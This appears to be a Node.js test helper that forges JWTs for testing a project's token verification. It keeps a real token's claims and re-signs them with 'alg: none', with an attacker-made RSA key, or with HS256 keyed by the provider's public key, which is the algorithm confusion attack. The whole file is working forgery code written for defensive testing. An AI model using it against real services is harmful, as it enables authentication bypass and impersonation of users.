// Hostile tokens for dockwright's tests: the claims of a real token of the provider
// (right issuer, audience and times) under a header and signature the provider never
// made, as an attacker who saw one token would make them.
//   node forge.mjs --token JWT --as none|foreign|hmac [--kid K] [--jwks URL]
//   none     `alg: none`, no signature
//   foreign  RS256 signed by a key of the attacker's own, with kid K (default: the token's)
//   hmac     HS256 keyed with the provider's public key (PEM of the --jwks key with the
//            token's kid): the algorithm confusion attack on verifiers that let the token
//            pick the algorithm
import { createHmac, createPublicKey, createSign, generateKeyPairSync } from 'node:crypto';
import { parseArgs } from 'node:util';

const { values } = parseArgs({
  options: { token: { type: 'string' }, as: { type: 'string' }, kid: { type: 'string' }, jwks: { type: 'string' } },
});
const [head, payload] = (values.token ?? '').split('.');
if (!head || !payload || !['none', 'foreign', 'hmac'].includes(values.as)) {
  console.error('usage: node forge.mjs --token JWT --as none|foreign|hmac [--kid K] [--jwks URL]');
  process.exit(1);
}
const original = JSON.parse(Buffer.from(head, 'base64url').toString());
const b64 = (value) => Buffer.from(JSON.stringify(value)).toString('base64url');
const kid = values.kid ?? original.kid;

let token;
if (values.as === 'none') {
  token = `${b64({ alg: 'none', typ: 'JWT' })}.${payload}.`;
} else if (values.as === 'foreign') {
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const input = `${b64({ alg: 'RS256', typ: 'JWT', kid })}.${payload}`;
  token = `${input}.${createSign('RSA-SHA256').update(input).sign(privateKey).toString('base64url')}`;
} else {
  const jwks = await (await fetch(values.jwks)).json();
  const jwk = jwks.keys.find((k) => k.kid === original.kid);
  if (!jwk) throw new Error(`no key ${original.kid} at ${values.jwks}`);
  const secret = createPublicKey({ key: jwk, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
  const input = `${b64({ alg: 'HS256', typ: 'JWT', kid })}.${payload}`;
  token = `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
}
process.stdout.write(`${token}\n`);
